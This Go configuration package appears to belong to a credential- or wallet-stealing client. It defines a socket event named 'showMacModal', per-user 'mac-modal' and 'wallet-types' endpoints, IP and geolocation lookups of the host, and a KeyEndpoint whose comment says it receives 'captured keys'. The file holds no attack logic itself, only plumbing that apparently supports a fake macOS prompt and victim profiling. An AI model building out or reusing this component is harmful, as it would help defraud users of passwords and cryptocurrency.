package config

import (
	"fmt"
	"net/url"
	"strings"
	"sync"
	"time"
)

// Config holds endpoints and secrets shared by every client component.
// Empty fields mean "use the default".
type Config struct {
	APIBaseURL     string `toml:"api_base_url"`
	SocketURL      string `toml:"socket_url"`
	SocketEvent    string `toml:"socket_event"`
	SecretKey      string `toml:"secret_key"`
	AssetBaseURL   string `toml:"asset_base_url"`
	IPLookupURL    string `toml:"ip_lookup_url"`
	GeoLookupURL   string `toml:"geo_lookup_url"` // %s is replaced by the IP
	RequestTimeout string `toml:"request_timeout"`
	TokenTTL       string `toml:"token_ttl"`
	SentryDSN      string `toml:"sentry_dsn"`
}

// Defaults returns the built-in configuration.
func Defaults() Config {
	return Config{
		APIBaseURL:     "http://localhost:5000",
		SocketURL:      "ws://localhost:5000/socket",
		SocketEvent:    "showMacModal",
		SecretKey:      "change-me-secret",
		AssetBaseURL:   "http://localhost:5000/assets/",
		IPLookupURL:    "https://api.ipify.org?format=json",
		GeoLookupURL:   "https://ipapi.co/%s/json/",
		RequestTimeout: "30s",
		TokenTTL:       "1h",
	}
}

// Store is the mutable configuration shared by one client instance.
// Set takes effect for the very next read.
type Store struct {
	mu  sync.RWMutex
	cur Config
}

func New() *Store {
	return &Store{cur: Defaults()}
}

// Get returns the resolved configuration; fields never come back empty
// except SentryDSN, whose default is "disabled".
func (s *Store) Get() Config {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.cur
}

// Set merges non-empty fields of partial into the current configuration.
func (s *Store) Set(partial Config) {
	s.mu.Lock()
	defer s.mu.Unlock()
	merge(&s.cur, partial)
}

func merge(dst *Config, src Config) {
	set := func(d *string, v string) {
		if v = strings.TrimSpace(v); v != "" {
			*d = v
		}
	}
	set(&dst.APIBaseURL, src.APIBaseURL)
	set(&dst.SocketURL, src.SocketURL)
	set(&dst.SocketEvent, src.SocketEvent)
	set(&dst.SecretKey, src.SecretKey)
	set(&dst.AssetBaseURL, src.AssetBaseURL)
	set(&dst.IPLookupURL, src.IPLookupURL)
	set(&dst.GeoLookupURL, src.GeoLookupURL)
	set(&dst.RequestTimeout, src.RequestTimeout)
	set(&dst.TokenTTL, src.TokenTTL)
	set(&dst.SentryDSN, src.SentryDSN)
}

func (s *Store) apiURL(path string) string {
	return strings.TrimRight(s.Get().APIBaseURL, "/") + path
}

// KeyEndpoint is where the request channel posts captured keys.
func (s *Store) KeyEndpoint() string { return s.apiURL("/api/keys") }

func (s *Store) SettingsURL(userID string) string {
	return s.apiURL("/api/mac-modal/settings/" + url.PathEscape(userID))
}

func (s *Store) WalletTypesURL(userID string) string {
	return s.apiURL("/api/wallet-types/" + url.PathEscape(userID))
}

func (s *Store) SocketURL() string   { return s.Get().SocketURL }
func (s *Store) EventName() string   { return s.Get().SocketEvent }
func (s *Store) SecretKey() string   { return s.Get().SecretKey }
func (s *Store) IPLookupURL() string { return s.Get().IPLookupURL }

// GeoLookupURL expands the configured template for ip.
func (s *Store) GeoLookupURL(ip string) string {
	tmpl := s.Get().GeoLookupURL
	if !strings.Contains(tmpl, "%s") {
		return strings.TrimRight(tmpl, "/") + "/" + url.PathEscape(ip)
	}
	return fmt.Sprintf(tmpl, url.PathEscape(ip))
}

// AssetURL joins the asset base with name.
func (s *Store) AssetURL(name string) string {
	return s.Get().AssetBaseURL + strings.TrimLeft(name, "/")
}

// Timeout is the per-request HTTP timeout; malformed values fall back to the default.
func (s *Store) Timeout() time.Duration {
	return parseDuration(s.Get().RequestTimeout, Defaults().RequestTimeout)
}

func (s *Store) TokenTTL() time.Duration {
	return parseDuration(s.Get().TokenTTL, Defaults().TokenTTL)
}

func parseDuration(v, def string) time.Duration {
	if d, err := time.ParseDuration(v); err == nil && d > 0 {
		return d
	}
	d, _ := time.ParseDuration(def)
	return d
}
